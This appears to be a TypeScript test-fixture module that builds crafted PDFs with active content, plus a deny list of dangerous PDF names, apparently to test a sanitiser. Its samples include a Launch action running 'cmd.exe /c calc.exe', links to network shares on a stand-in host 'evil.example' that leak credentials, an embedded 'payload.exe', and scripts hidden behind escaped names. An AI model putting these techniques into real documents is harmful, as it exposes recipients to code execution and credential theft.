import { pagedPdf } from './crafted-pdfs.ts';
import { stream, type PdfWriter } from './pdf-writer.ts';

/**
 * PDFs with active content, two real pages each ("Page 1", "Page 2"): what must never reach the clerk's viewer.
 * Names a clean copy must not contain anywhere (qpdf --json writes names in their plain form).
 */
export const ACTIVE_NAMES = [
  '/JavaScript',
  '/JS',
  '/Launch',
  '/OpenAction',
  '/AA',
  '/EmbeddedFile',
  '/EmbeddedFiles',
  '/FileAttachment',
  '/XFA',
  '/SubmitForm',
  '/GoToR',
];

/**
 * JavaScript everywhere it can run: on open (/OpenAction), in the document's named scripts, on page open (/AA),
 * behind a link (whose /Next chain hides a second script, its name written with an escape), in a form field's
 * keystroke action, an XFA form; plus an embedded file and a file-attachment annotation.
 */
export function javascriptPdf(): Buffer {
  let objs: Record<string, number> = {};
  const before = (w: PdfWriter) => {
    const js = w.add(
      stream(
        '<<>>',
        "app.alert('Hello from the PDF'); this.exportDataObject({ cName: 'payload.exe', nLaunch: 2 });",
        false,
      ),
    );
    const named = w.add(`<</S/JavaScript/JS ${js} 0 R>>`);
    const file = w.add(
      stream('<</Type/EmbeddedFile/Subtype/application#2Foctet-stream>>', 'MZ not really a program', false),
    );
    const spec = w.add(`<</Type/Filespec/F(payload.exe)/UF(payload.exe)/EF<</F ${file} 0 R>>>>`);
    const field = w.add(`<</FT/Tx/T(name)/AA<</K<</S/JavaScript/JS(event.rc = true;)>>>>/Kids[]>>`);
    const xfa = w.add(stream('<<>>', '<xdp:xdp><script>app.alert(1)</script></xdp:xdp>', false));
    objs = { js, named, spec, field, xfa };
  };
  const catalogExtra = () =>
    `/OpenAction<</S/JavaScript/JS(app.alert('opened'))>>` +
    `/Names<</JavaScript<</Names[(init) ${objs.named} 0 R]>>/EmbeddedFiles<</Names[(payload.exe) ${objs.spec} 0 R]>>>>` +
    `/AcroForm<</Fields[${objs.field} 0 R]/XFA ${objs.xfa} 0 R>>`;
  const annots = () =>
    `/Annots[<</Type/Annot/Subtype/Link/Rect[72 600 300 650]/A<</S/URI/URI(https://example.com/)/Next<</S/J#61vaScript/JS(app.alert('chained'))>>>>>>` +
    ` <</Type/Annot/Subtype/FileAttachment/Rect[72 500 90 520]/FS ${objs.spec} 0 R>>` +
    ` <</Type/Annot/Subtype/Widget/FT/Tx/Rect[72 400 300 420]/Parent ${objs.field} 0 R/AA<</Fo<</S/JavaScript/JS(app.beep(0))>>>>>>` +
    ` <</Type/Annot/Subtype/Link/Rect[72 300 300 350]/A<</S/URI/URI(https://example.com/ok)>>>>]`;
  return lazyPaged(before, catalogExtra, () => `/AA<</O<</S/JavaScript/JS(app.alert('page'))>>>>${annots()}`);
}

/** Launch actions (run a program) on open and behind a link, and a GoToR to a network share (leaks credentials). */
export function launchPdf(): Buffer {
  return lazyPaged(
    () => {},
    () => `/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc.exe)>>/F(calc.exe)>>`,
    () =>
      `/Annots[<</Type/Annot/Subtype/Link/Rect[72 600 300 650]/A<</S/Launch/F<</Type/Filespec/F(\\\\\\\\evil.example\\\\share\\\\run.exe)>>/NewWindow true>>>>` +
      ` <</Type/Annot/Subtype/Link/Rect[72 500 300 550]/A<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\doc.pdf)/D[0/Fit]>>>>` +
      ` <</Type/Annot/Subtype/Link/Rect[72 400 300 450]/A<</S/GoToR/F(chapter-2.pdf)/D[0/Fit]>>>>]`,
  );
}

/**
 * Web links as manuals and word processors write them, the action inline or its own object: safe addresses, and a
 * script, a local program and a network share dressed as web links.
 */
export function webLinksPdf(): Buffer {
  let action = 0;
  let share = 0;
  return lazyPaged(
    (w) => {
      action = w.add(`<</S/URI/URI(https://example.com/own-object)>>`);
      share = w.add(`<</S/URI/URI(\\\\evil.example\\share\\leak)>>`);
    },
    () => '',
    () =>
      `/Annots[<</Type/Annot/Subtype/Link/Rect[72 600 300 650]/A<</S/URI/URI(https://example.com/inline)>>>>` +
      ` <</Type/Annot/Subtype/Link/Rect[72 550 300 580]/A ${action} 0 R>>` +
      ` <</Type/Annot/Subtype/Link/Rect[72 500 300 530]/A<</S/URI/URI(javascript:app.alert('link'))>>>>` +
      ` <</Type/Annot/Subtype/Link/Rect[72 450 300 480]/A<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>>>` +
      ` <</Type/Annot/Subtype/Link/Rect[72 400 300 430]/A ${share} 0 R>>]`,
  );
}

/** Two pages; the extras are built after `before` has written the objects they refer to. */
function lazyPaged(before: (w: PdfWriter) => void, catalogExtra: () => string, pageExtra: () => string): Buffer {
  let catalog = '';
  let page = '';
  return pagedPdf({
    pages: 2,
    before: (w) => {
      before(w);
      catalog = catalogExtra();
      page = pageExtra();
    },
    get catalogExtra() {
      return catalog;
    },
    get pageExtra() {
      return page;
    },
  });
}
